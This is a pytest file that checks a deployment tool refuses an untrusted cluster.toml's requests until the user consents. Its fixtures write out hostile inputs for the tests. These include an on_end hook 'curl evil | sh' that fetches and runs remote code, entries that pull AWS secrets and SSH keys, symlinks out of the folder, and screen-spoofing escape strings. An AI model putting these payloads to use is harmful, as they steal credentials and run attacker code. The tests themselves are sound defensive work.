"""A cluster.toml that came with somebody's folder: nothing of what it asks for happens that nobody allowed and saw."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from deploy import api
from deploy.commands import main
from deploy.core.errors import USAGE
from tests.hostile.terminal import at_terminal
from tests.hostile.watch import Watch

HOSTS = '[[hosts]]\nname = "evil"\n'
# As the console command, with the modules of the command that is typed alone.
PROGRAM = """
import sys
from deploy.commands import main as cli
sys.exit(cli.run(sys.argv[1:]))
"""
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can make another user's folder")


@pytest.fixture
def clone(hostile, monkeypatch):
    """A clone with a script, in which one works, and a host that would be glad of a visit."""
    there = hostile({})
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "sesame-4711")
    (there.home / ".ssh/id_ed25519").write_text("the key\n")
    there._before = there._seen()
    return Clone(there)


class Clone:
    """`says` writes its cluster.toml; `types` is a command without a terminal, `person` one at a terminal."""

    def __init__(self, there):
        self.there, self.folder = there, there.work

    def says(self, job="", hosts=HOSTS):
        """Its cluster.toml."""
        (self.folder / "cluster.toml").write_text(f"{hosts}[job]\n{job}\n")

    def types(self, *words):
        """A command, and what it printed."""
        return self.there.task(*words)

    def person(self, *words, answers=(), **more):
        """The same at a terminal, as a process of its own."""
        return at_terminal(
            [sys.executable, "-c", PROGRAM, *words], self.folder, self.there.environment, answers, **more
        )

    def begins(self, *words, folder=None):
        """A command as a process of its own, without a terminal."""
        line, pipe = [sys.executable, "-c", PROGRAM, *words], subprocess.PIPE
        return subprocess.Popen(
            line, cwd=folder or self.folder, env=self.there.environment, stdin=subprocess.DEVNULL, stdout=pipe,
            stderr=pipe, text=True,
        )  # fmt: skip

    @property
    def visits(self):
        """How many connections the host has seen."""
        return len(self.there.servers["evil"]._transports)

    @property
    def answers(self):
        """The files of what this user has allowed."""
        return sorted((self.there.folder / "config/muster/allowed").glob("*"))


# What a file says, and the words in which a person is asked for it.
WISHES = {
    "a variable of the shell": ('secrets = ["AWS_SECRET_ACCESS_KEY"]', "secret AWS_SECRET_ACCESS_KEY from this shell"),
    "a private key": ('secrets = [{ name = "K", file = "~/.ssh/id_ed25519" }]', "secret K from HOME/.ssh/id_ed25519"),
    "a key as a file": (
        'secrets = [{ name = "k", file = "~/.ssh/id_ed25519", as_file = true }]',
        "secret k from HOME/.ssh/id_ed25519, as a file",
    ),
    "a key behind a link": ('secrets = [{ name = "K", file = "key" }]', "secret K from HOME/.ssh/id_ed25519"),
    "a file of variables": ('env_file = "own.env"', "variables of WORK/own.env"),
    "what such a file takes from the shell": (
        'env_file = "sly.env"',
        "variables of WORK/sly.env, with AWS_SECRET_ACCESS_KEY, HOME of this shell",
    ),
    "a file of variables outside": ('env_file = "../home/important"', "variables of HOME/important"),
    "a mount": ('mounts = ["/home/me/.ssh:/x:ro"]', "mount /home/me/.ssh:/x:ro on all hosts"),
    "the home as the folder": ('folder = "~"', "folder HOME is sent to the hosts"),
    "the home behind a link": ('folder = "data"', "folder HOME is sent to the hosts"),
    "what the folder would keep": ('include = [".env"]', "include .env is sent, even if it is a credential"),
    "a folder as data": ('[[data]]\nfolder = "~/.ssh"\ntarget = "/d"', "data all of HOME/.ssh, to /d on the hosts"),
    "a link as data": ('[[data]]\nfolder = "data"\ntarget = "/d"', "data all of HOME, to /d on the hosts"),
    "its own folder as data": ('[[data]]\nfolder = "."\ntarget = "/d"', "data all of WORK, to /d on the hosts"),
    "an image": ('image = "evil/trainer"', "image evil/trainer"),
    "a build": ('dockerfile = "Dockerfile"', "dockerfile WORK/Dockerfile is built on this machine"),
    "a command at the end": ('on_end = "curl evil | sh"', "on-end curl evil | sh once the run has ended"),
    "an address at the end": ('on_end = "https://evil/x"', "on-end https://evil/x once the run has ended"),
    "another's user id": ("user = 1000", "user 1000 owns the run's processes on the hosts"),
    "a network": ("overlay = true", "overlay the run makes its own network"),
    "a script behind a link": ('script = "steals.py"', "script steals.py leads to HOME/important"),
    "requirements behind a link": ('requirements = "needs.txt"', "requirements needs.txt leads to HOME/important"),
    "all GPUs": ('environment = { NVIDIA_VISIBLE_DEVICES = "all" }', "variable NVIDIA_VISIBLE_DEVICES=all"),
}


@pytest.mark.holds("folder-asks")
@pytest.mark.parametrize(("job", "words"), WISHES.values(), ids=WISHES)
def test_what_a_file_asks_for_is_refused_by_name_where_nobody_can_answer_and_done_once_it_is_allowed(clone, job, words):
    """The host is asked nothing, no word of the key is read, and the list says each thing as it is."""
    fill(clone)
    clone.says(job)
    asked = words.replace("HOME", str(clone.there.home), 1) if "of this shell" not in words else words
    asked = asked.replace("WORK", str(clone.folder))
    refused = clone.types("status")
    assert refused.code == USAGE
    assert f"{asked}" in refused.output
    assert "--allow-folder" in refused.err
    assert (clone.visits, clone.answers) == (0, [])
    allowed = clone.types("status", "--allow-folder")
    assert asked in allowed.output, "what is allowed is said"
    assert clone.visits == 1
    again = clone.types("status")
    assert asked in again.output, "it is said each time"
    assert "things that only you can allow" not in again.output
    assert clone.visits == 2


def fill(clone):
    """What the files of WISHES name."""
    (clone.folder / "own.env").write_text("A=1\nB=${A}\n")
    # `A` is the secret's value in the line between, whatever the last line says.
    (clone.folder / "sly.env").write_text("A=${AWS_SECRET_ACCESS_KEY}\nB=${A}\nA=1\nHOME\n")
    (clone.folder / "Dockerfile").write_text("FROM scratch\n")
    (clone.there.home / "important").write_text("NAME=value\n")
    for name, target in (
        ("key", ".ssh/id_ed25519"),
        ("data", ""),
        ("steals.py", "important"),
        ("needs.txt", "important"),
    ):
        (clone.folder / name).symlink_to(clone.there.home / target)


def test_where_a_host_is_is_asked_even_for_a_host_that_is_typed(clone):
    """`--hosts a` of somebody's file may be a machine of theirs."""
    clone.says(hosts='[[hosts]]\nname = "a"\naddress = "evil"\nuser = "x"\ngateway = "evil:22"\ninterface = "eth9"\n')
    refused = clone.types("status", "--hosts", "a")
    assert refused.code == USAGE
    assert "host a at x@evil through evil:22 on eth9" in refused.output
    assert clone.visits == 0
    (clone.folder / "cluster.toml").unlink()
    typed = clone.types("status", "--hosts", "evil")
    assert "things that only you can allow" not in typed.output, "what is typed is never asked for"
    assert clone.visits == 1


def commands():
    """Every command that takes a file of hosts, with what else it needs."""
    more = {"port": ["80"], "exec": ["--", "true"], "leave": ["--hosts", "evil"], "join": ["--hosts", "evil"]}
    # Without the option, these are about this machine.
    more |= {name: ["--cluster", "cluster.toml"] for name in ("runs", "down", "why", "tensorboard", "board")}
    more |= {"bootstrap": ["--yes"], "clean": ["--yes"], "export": ["--to", "jobset"]}
    for each in main.every_command():
        # `resume` asks this user's records first, and reads a file only as the deploy that it becomes.
        if "cluster" in {param.name for param in each.params} and each.name != "resume":
            yield each.name, more.get(each.name, [])


@pytest.mark.holds("folder-asks")
@pytest.mark.parametrize(("name", "words"), commands(), ids=[name for name, _ in commands()])
def test_no_command_takes_a_cluster_from_a_file_that_nobody_allowed(clone, name, words):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    refused = clone.types(name, *words)
    assert (refused.code, clone.visits) == (USAGE, 0), refused.output
    assert "secret AWS_SECRET_ACCESS_KEY from this shell" in refused.output
    assert "sesame" not in refused.output
    named = clone.types(name, "--cluster", str(clone.folder / "cluster.toml"), *words[2 * ("--cluster" in words) :])
    assert (named.code, clone.visits) == (USAGE, 0), named.output


@pytest.fixture(scope="module")
def opened():
    """The paths that this process opens, while a test fills it: Python takes no such hook back."""
    paths = []
    sys.addaudithook(lambda event, args: paths.append(str(args[0])) if event == "open" else None)
    return paths


# After the file, `login` waits for what a person types to ssh, and `board` for browsers.
READERS = [pytest.param(name, words, id=name) for name, words in commands() if name not in ("login", "board")]


@pytest.mark.parametrize(("name", "words"), READERS)
def test_a_command_reads_the_file_once_so_that_what_was_asked_is_what_is_used(clone, opened, name, words):
    file = clone.folder.parent / "lab.toml"  # in the folder itself, a deploy would open it to send it
    file.write_text(f'{HOSTS}[job]\nscript = "train.py"\n')
    opened.clear()
    clone.types(name, "--cluster", str(file), "--allow-folder", *words[2 * ("--cluster" in words) :])
    assert opened.count(str(file)) == 1


def test_the_python_api_raises_until_it_is_told_to_allow_it(clone, capsys):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    with pytest.raises(api.UsageError, match="AWS_SECRET_ACCESS_KEY") as refused:
        api.Cluster()
    assert "allow_folder=True" in refused.value.hint
    cluster = api.Cluster(allow_folder=True)
    assert "AWS_SECRET_ACCESS_KEY" in capsys.readouterr().err
    # It has grown since: what is added was not allowed to this object's owner either, unless it says so each time.
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY", "PATH"]')
    with pytest.raises(api.UsageError, match="secret PATH from this shell"):
        api.Cluster()
    assert cluster.hosts == ("evil",)


def test_free_settings_are_not_asked_for(clone):
    clone.says(
        'script = "train.py"\nfolder = "."\nrequirements = "no"\nrestarts = 1\nrank = "all"\nobserve = false\n'
        'processes = 2\ngpus = 0\nshm_size = "1g"\nmemory = "2g"\npids = 100\nmax_hours = 1\nwait_lost = "90s"\n'
        'min_nodes = 1\nfolder_limit = "1g"\ncache = false\nseparate = true\nkeep = ["/data"]\n'
        "environment = { SEED = 1, LD_PRELOAD = '/x' }\n"
    )
    refused = clone.types("status")
    asked = refused.err.partition("to ask you on:\n")[2].partition("hint:")[0].split("\n")
    assert [line.strip() for line in asked if line.strip()] == ["host evil at evil"]
    assert "muster status --allow-folder" in refused.err
    said = clone.types("status", "--allow-folder").err
    assert {"script train.py", "restarts 1", "keep /data"} <= set(_sets(said)), "what is not asked is said"


def _sets(said):
    """What a command says that the file sets unasked."""
    (line,) = [line for line in said.splitlines() if line.startswith("cluster.toml sets ")]
    return line.removeprefix("cluster.toml sets ").split("; ")


@pytest.mark.holds("stays-in-the-folder")
def test_what_is_included_never_leads_out_of_the_folder(clone):
    """Nobody can allow it: whoever wants it takes the link away."""
    (clone.folder / "vocab").symlink_to(clone.there.home / ".ssh")
    clone.says('include = ["vocab/id_ed25519"]')
    refused = clone.types("push", "--allow-folder")
    assert refused.code == USAGE
    assert f"vocab/id_ed25519 is a link out of the folder, to {clone.there.home}/.ssh/id_ed25519" in refused.output
    assert clone.visits == 0


def test_a_person_is_asked_once_and_again_only_for_what_is_new(clone):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    first = clone.person("status", answers=["y"])
    assert first.questions == 1
    assert "host evil at evil\n" in first.screen
    assert "secret AWS_SECRET_ACCESS_KEY from this shell\n" in first.screen
    (kept,) = clone.answers
    assert str(kept) in first.screen, "it says where the answer is"
    assert (kept.stat().st_mode & 0o777, kept.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    second = clone.person("status")
    assert second.questions == 0
    assert "secret AWS_SECRET_ACCESS_KEY from this shell" in second.screen
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]\nmounts = ["/etc:/etc2"]')
    third = clone.person("status", answers=["y"])
    question = third.screen.partition("asks for things that only you")[2].partition("[y/N]")[0]
    assert "mount /etc:/etc2 on all hosts" in question
    assert "AWS_SECRET" not in question, "only what is new is asked"
    kept.unlink()
    assert clone.person("status", answers=["n"]).questions == 1, "a deleted answer is taken back"


@pytest.mark.parametrize("answer", [["n"], [""], ["maybe"], []], ids=["no", "nothing", "maybe", "the end"])
def test_anything_but_yes_is_no_and_nothing_is_kept(clone, answer):
    clone.says()
    said = clone.person("status", answers=answer)
    assert (said.code, said.questions, clone.visits, clone.answers) == (USAGE, 1, 0, [])
    assert "nothing was done" in said.screen


def test_ctrl_c_at_the_question_ends_the_command(clone):
    clone.says()
    said = clone.person("deploy", "--script", "train.py", answers=["\x03"])
    assert said.code != 0
    assert (clone.visits, clone.answers) == (0, [])


@pytest.mark.holds("folder-asks")
def test_what_was_shown_is_what_is_used_though_the_file_is_another_by_then(clone):
    """The owner of the folder waits until the question stands on the screen."""
    clone.says()

    def meanwhile():
        clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]', '[[hosts]]\nname = "b"\naddress = "203.0.113.9"\n')

    said = clone.person("deploy", "--script", "train.py", answers=["y"], meanwhile=meanwhile)
    assert said.questions == 1
    assert "203.0.113.9" not in said.screen
    assert clone.visits == 1, "the host that was shown"
    later = clone.person("status")
    assert (later.code, later.questions) == (USAGE, 1), "the other file was not allowed"


def test_a_secret_that_becomes_a_link_after_the_question_is_not_read(clone):
    token = clone.folder / "token"
    token.write_text("harmless")
    clone.says('secrets = [{ name = "TOKEN", file = "token" }]')

    def meanwhile():
        token.unlink()
        token.symlink_to(clone.there.home / ".ssh/id_ed25519")

    said = clone.person("deploy", "--script", "train.py", answers=["y"], meanwhile=meanwhile)
    assert said.code == USAGE
    assert "secret TOKEN: cannot read" in said.screen
    assert clone.visits == 0


def test_an_answer_for_a_file_of_variables_holds_for_what_it_took_from_the_shell(clone):
    (clone.folder / "own.env").write_text("A=1\n")
    clone.says('env_file = "own.env"')
    assert clone.types("status", "--allow-folder").code != USAGE
    (clone.folder / "own.env").write_text("A=1\nAWS_SECRET_ACCESS_KEY\n")
    refused = clone.types("status")
    assert refused.code == USAGE
    assert "with AWS_SECRET_ACCESS_KEY of this shell" in refused.output


def test_a_file_of_variables_elsewhere_is_not_opened_before_a_yes(clone):
    watch = Watch(clone.there.home)
    clone.says('env_file = "../home/important"')
    refused = clone.types("status")
    assert f"variables of {clone.there.home}/important" in refused.err
    assert not [name for name in watch.opened() if name.endswith("important")]
    watch.close()
    clone.says('env_file = "../outside/file"')
    (clone.there.folder / "outside/file").write_text("AWS_SECRET_ACCESS_KEY\n")
    assert "AWS_SECRET_ACCESS_KEY" not in clone.types("status").err
    asked = clone.person("status", answers=["y", "n"])
    assert asked.questions == 2, "what the file takes from the shell is asked for once it may be read"
    assert "AWS_SECRET_ACCESS_KEY of this shell" in asked.screen


def test_programs_get_their_rows_alone_and_people_the_list(clone):
    clone.says('mounts = ["/data:/data"]')
    said = clone.types("status", "--allow-folder", "--json")
    assert [json.loads(line)["host"] for line in said.out.splitlines()] == ["evil"]
    assert "cluster.toml: host evil at evil; mount /data:/data on all hosts" in said.err
    assert (
        clone.types("deploy", "--dry-run", "--script", "train.py").output.count("mount /data:/data on all hosts") == 1
    )


# How words of a file would hide or forge what a person reads.
TRICKS = {
    "clears the screen": ("/a\\u001b[2J\\u001b[H", "/a\\x1b[2J\\x1b[H"),
    "shows itself backwards": ("/a\\u202egpj.b", "/a\\u202egpj.b"),
    "has no width": ("/a\\u200bb", "/a\\u200bb"),
    "looks like another": ("/d\\u0430ta", "/d\\u0430ta"),
    "has blanks that are none": ("/a\\u00a0b", "/a\\xa0b"),
}


@pytest.mark.parametrize(("word", "shown"), TRICKS.values(), ids=TRICKS)
def test_words_of_a_file_are_shown_as_plain_letters(clone, word, shown):
    clone.says(f'on_end = "run {word}"')
    refused = clone.types("status")
    assert f"on-end run {shown} once" in refused.output
    assert refused.err.isascii()


def test_neither_end_of_a_long_word_can_hide(clone):
    clone.says(f'on_end = "echo hello {"x" * 5000} ; curl evil | sh"')
    first = clone.types("status")
    assert "on-end echo hello xxx" in first.output
    assert "curl evil | sh once the run has ended" in first.output
    assert len(first.err) < 2000
    assert clone.types("status", "--allow-folder").code != USAGE
    clone.says(f'on_end = "echo hello {"x" * 2500}y{"x" * 2499} ; curl evil | sh"')
    assert clone.types("status").code == USAGE, "the answer holds for every letter, shown or not"


@pytest.mark.holds("folder-asks")
def test_ten_thousand_hosts_do_not_push_the_one_line_off_the_screen(clone):
    hosts = "".join(
        f'[[hosts]]\nname = "gpu-{number}"\naddress = "10.{number >> 8}.{number & 255}.7"\n' for number in range(9999)
    )
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]', hosts + HOSTS)
    refused = clone.types("status")
    lines = refused.err.splitlines()
    assert refused.code == USAGE
    assert len(lines) < 70
    assert "secret AWS_SECRET_ACCESS_KEY from this shell" in refused.err
    assert clone.visits == 0


def test_more_than_a_person_reads_is_not_asked_on_a_terminal(clone):
    names = ", ".join(f'"NAME_{number}"' for number in range(500))
    clone.says(f"secrets = [{names}]")
    said = clone.person("status", answers=["y"])
    assert (said.code, said.questions, clone.visits) == (USAGE, 0, 0)
    assert "too many to read" in said.screen


@pytest.mark.parametrize(
    "text",
    [
        f'{HOSTS}[job]\nsecrets = []\nsecrets = ["A"]\n',
        f'{HOSTS}[job]\nimage = "a"\n[job]\nimage = "b"\n',
        "x" * (2 << 20),
    ],
    ids=["a key twice", "a table twice", "two megabytes"],
)
def test_a_file_with_two_readings_is_refused(clone, text):
    (clone.folder / "cluster.toml").write_text(text)
    refused = clone.types("status", "--allow-folder")
    assert (refused.code, clone.visits, clone.answers) == (USAGE, 0, [])


def planted(clone):
    """An answer of this user that allows the clone what it asks for, away from its place."""
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    assert clone.types("status", "--allow-folder").code != USAGE
    (kept,) = clone.answers
    return kept, kept.read_text()


PLANTS = {
    "unsealed": lambda kept, text: kept.write_text(
        json.dumps({k: v for k, v in json.loads(text).items() if k != "seal"})
    ),
    "with more in it": lambda kept, text: kept.write_text(text.replace("AWS_SECRET_ACCESS_KEY", "PATH")),
    "readable by others": lambda kept, text: kept.chmod(0o644),
    "in a folder that others write": lambda kept, text: kept.parent.chmod(0o777),
    "no JSON": lambda kept, text: kept.write_text("[" * 100_000),
    "a folder": lambda kept, text: (kept.unlink(), kept.mkdir()),
    "a pipe": lambda kept, text: (kept.unlink(), os.mkfifo(kept, 0o600)),
    "a link": lambda kept, text: (kept.rename(kept.with_suffix(".x")), kept.symlink_to(kept.with_suffix(".x"))),
    "in a linked folder": lambda kept, text: (
        kept.parent.rename(kept.parent.with_name("elsewhere")),
        kept.parent.symlink_to("elsewhere"),
    ),
}


@pytest.mark.holds("answers-are-yours")
@pytest.mark.parametrize("plant", PLANTS.values(), ids=PLANTS)
def test_an_answer_that_is_not_the_users_own_is_not_believed(clone, plant):
    plant(*planted(clone))
    refused = clone.types("status")
    assert refused.code == USAGE
    assert "secret AWS_SECRET_ACCESS_KEY from this shell" in refused.output


@needs_root
def test_an_answer_of_another_user_is_not_believed(clone):
    kept, _ = planted(clone)
    os.chown(kept, 1234, 1234)
    assert clone.types("status").code == USAGE


@pytest.mark.holds("answers-are-yours")
def test_an_answer_holds_for_the_folder_that_was_asked_about_and_for_no_other_at_its_path(clone):
    """Another clone at the same path, and the same files elsewhere."""
    planted(clone)
    elsewhere = clone.there.folder / "elsewhere"
    clone.folder.rename(elsewhere)
    clone.folder.mkdir()
    (clone.folder / "cluster.toml").write_bytes((elsewhere / "cluster.toml").read_bytes())
    for folder in (clone.folder, elsewhere):
        process = clone.begins("status", folder=folder)
        _, err = process.communicate(timeout=60)
        assert process.returncode == USAGE, err
        assert "things that only you can allow" in err


@pytest.mark.parametrize("place", ["by its settings", "by a link"])
def test_answers_that_lie_in_the_folder_that_asks_are_not_believed_and_that_is_said(clone, monkeypatch, place):
    """A clone can bring the configuration folder along, where a shell's own settings lead there."""
    clone.says()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(clone.folder / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(clone.folder / "state"))
    if place == "by a link":
        (clone.there.folder / "config/muster").mkdir(parents=True)
        monkeypatch.setenv("XDG_CONFIG_HOME", str(clone.there.folder / "config"))
        (clone.there.folder / "config/muster/allowed").symlink_to(clone.folder / "allowed")
        (clone.folder / "allowed").mkdir(mode=0o700)
    said = clone.types("status", "--allow-folder")
    assert "your answer counts for this command only" in said.output
    assert clone.types("status").code == USAGE


def test_where_nothing_can_be_kept_a_person_is_asked_each_time_and_told_why(clone, monkeypatch):
    (clone.there.folder / "config").write_text("a file in the place of the folder")
    clone.says()
    for _ in range(2):
        said = clone.person("status", answers=["y"])
        assert said.questions == 1
        assert "your answer counts for this command only" in said.screen
    assert clone.visits == 2


def test_two_commands_at_once_both_have_their_answer(clone):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    both = [clone.begins("status", "--allow-folder") for _ in range(2)]
    for process in both:
        _, err = process.communicate(timeout=60)
        assert "Traceback" not in err
        assert "secret AWS_SECRET_ACCESS_KEY from this shell" in err
    assert [path.suffix for path in clone.answers] == [".json"]
    assert "things that only you can allow" not in clone.types("status").output


def test_completion_reads_names_and_neither_asks_nor_connects(clone):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    text = clone.types("completion", "--shell", "bash").out
    done = subprocess.run(["bash", "-c", f"{text}\n_muster_words status --hosts ''"], cwd=clone.folder,
                          env={**clone.there.environment}, capture_output=True, text=True, check=False)  # fmt: skip
    assert "evil" in done.stdout.split()
    assert (clone.visits, clone.answers) == (0, [])


@pytest.fixture
def others(clone):
    """A clone that another user owns."""
    for folder, below, files in os.walk(clone.folder):
        for name in (folder, *(os.path.join(folder, each) for each in (*below, *files))):
            os.chown(name, 1234, 1234)
    return clone


@needs_root
@pytest.mark.holds("others-folder")
def test_in_another_users_folder_every_setting_is_asked_for(others, monkeypatch):
    others.says('script = "train.py"\nmemory = "2g"')
    refused = others.types("status")
    for words in ("owner uid 1234", "script train.py", "memory 2g", "host evil"):
        assert words in refused.output
    monkeypatch.setenv("SUDO_UID", "1234")
    os.chown(others.folder / "cluster.toml", 1234, 1234)
    assert "owner" not in others.types("status").output, "who called sudo is no other user"


@needs_root
@pytest.mark.holds("others-folder")
@pytest.mark.parametrize("part", ["the folder", "the work tree above", ".git", "a folder between"])
def test_a_script_of_another_users_folder_does_not_run_as_a_process_before_a_yes(clone, part):
    """What git calls a dubious ownership."""
    inner = clone.folder / "sub/inner"
    inner.mkdir(parents=True)
    (clone.folder / ".git").mkdir()
    ran = clone.there.folder / "ran"
    (inner / "train.py").write_text(f"open({str(ran)!r}, 'w')")
    owned = {"the folder": inner, "the work tree above": clone.folder, ".git": clone.folder / ".git"}
    os.chown(owned.get(part, inner.parent), 1234, 1234)
    words = ("up", "--backend", "processes", "--folder", "sub/inner", "--script", "train.py")
    refused = clone.types(*words)
    assert refused.code == USAGE
    assert "script of uid 1234, who owns this folder, runs on this machine as you" in refused.output
    said = clone.person(*words, answers=["n"])
    assert (said.code, said.questions) == (USAGE, 1)
    recipe = clone.types("up", "--backend", "processes", "--args", "--recipe sub/inner/train.py")
    assert (recipe.code, "who owns this folder" in recipe.output) == (USAGE, True), "a recipe for Muster's own trainer"
    assert not ran.exists()


def test_a_user_without_a_home_is_asked_each_time(clone, monkeypatch):
    """As in a container with a number for a user: `~` would be a folder of the clone."""
    clone.says()
    for name in ("XDG_CONFIG_HOME", "XDG_STATE_HOME"):
        monkeypatch.setenv(name, "relative")
    monkeypatch.setattr(os.path, "expanduser", lambda path: path)
    assert (
        "your answer counts for this command only: this user has no home" in clone.types("status", "--allow-folder").err
    )
    assert clone.types("status").code == USAGE
    assert {path.name for path in clone.folder.iterdir()} <= {"cluster.toml", "runs", "train.py"}


def test_the_verdict_of_a_preflight_stays_the_only_object_on_standard_output(clone):
    clone.says('mounts = ["/data:/data"]')
    said = clone.types("preflight", "--quick", "--json", "--allow-folder")
    assert isinstance(json.loads(said.out), dict)
    assert "mount /data:/data on all hosts" in said.err


@pytest.mark.holds("stays-in-the-folder")
def test_a_cluster_toml_that_leads_out_of_the_folder_is_not_read(clone, tmp_path):
    outside = tmp_path / "credentials"
    outside.write_text("[default]\naws_secret_access_key = canary/1\n")
    (clone.folder / "cluster.toml").unlink(missing_ok=True)
    (clone.folder / "cluster.toml").symlink_to(outside)
    refused = clone.types("status")
    assert refused.code == USAGE
    assert f"cluster.toml is a link out of this folder, to {outside}" in refused.err
    assert "TOML" not in refused.output


@pytest.mark.holds("stays-in-the-folder")
def test_runs_are_written_through_a_link_of_the_folder_only_after_a_yes(clone):
    """The link came with the clone, and leads to where a login looks for programs."""
    place = clone.there.home / "bin"
    place.mkdir()
    clone.there._before = clone.there._seen()
    for path in sorted(clone.there.runs.rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()
    clone.there.runs.rmdir()
    clone.there.runs.symlink_to(place)
    words = ("up", "--backend", "processes", "--script", "train.py", "--run", "r1")
    refused = clone.types(*words)
    assert refused.code == USAGE
    assert f"runs are written to {place}, to which the link runs points" in refused.output
    assert list(place.iterdir()) == []
    assert clone.person(*words, answers=["n"]).questions == 1
    assert list(place.iterdir()) == []


def linked(clone, name, target):
    """The clone's runs, or its newest one, are a link that came with it."""
    for path in sorted(clone.there.runs.rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()
    if name == "runs":
        clone.there.runs.rmdir()
    (clone.folder / name).symlink_to(target)


@pytest.mark.holds("stays-in-the-folder")
@pytest.mark.parametrize(
    "words", [("report", "project"), ("fetch", "--run", "project"), ("down", "--run", "project", "--delete")]
)
def test_a_folder_beside_the_clone_is_no_run_that_is_written_or_deleted_before_a_yes(clone, words):
    """`runs` leads to where the clones lie: each of the user's projects looks like a run in it."""
    project = clone.there.folder / "project"
    project.mkdir()
    (project / "report.html").write_text("mine\n")
    linked(clone, "runs", "..")
    refused = clone.types(*words)
    assert refused.code == USAGE
    assert f"runs are written to {clone.there.folder}, to which the link runs points" in refused.output
    assert (project / "report.html").read_text() == "mine\n"
    assert clone.types(words[0], "--allow-folder", *words[1:]).code == 0


@pytest.mark.holds("stays-in-the-folder")
@pytest.mark.parametrize("name", ["latest", "r1"])
def test_a_link_among_the_runs_leads_to_no_run_elsewhere(clone, name):
    project = clone.there.folder / "project"
    (project / "logs").mkdir(parents=True)
    (project / "report.html").write_text("mine\n")
    (project / "logs/rank-0.log").write_text("sesame\n")
    (project / "outcome.json").write_text("{}\n")
    linked(clone, f"runs/{name}", project)
    for words in (("report", name), *((task, "--run", name) for task in ("fetch", "logs", "stop", "attach"))):
        refused = clone.types(*words)
        assert refused.code == USAGE, refused.output
        assert "sesame" not in refused.output
    assert (project / "report.html").read_text() == "mine\n"
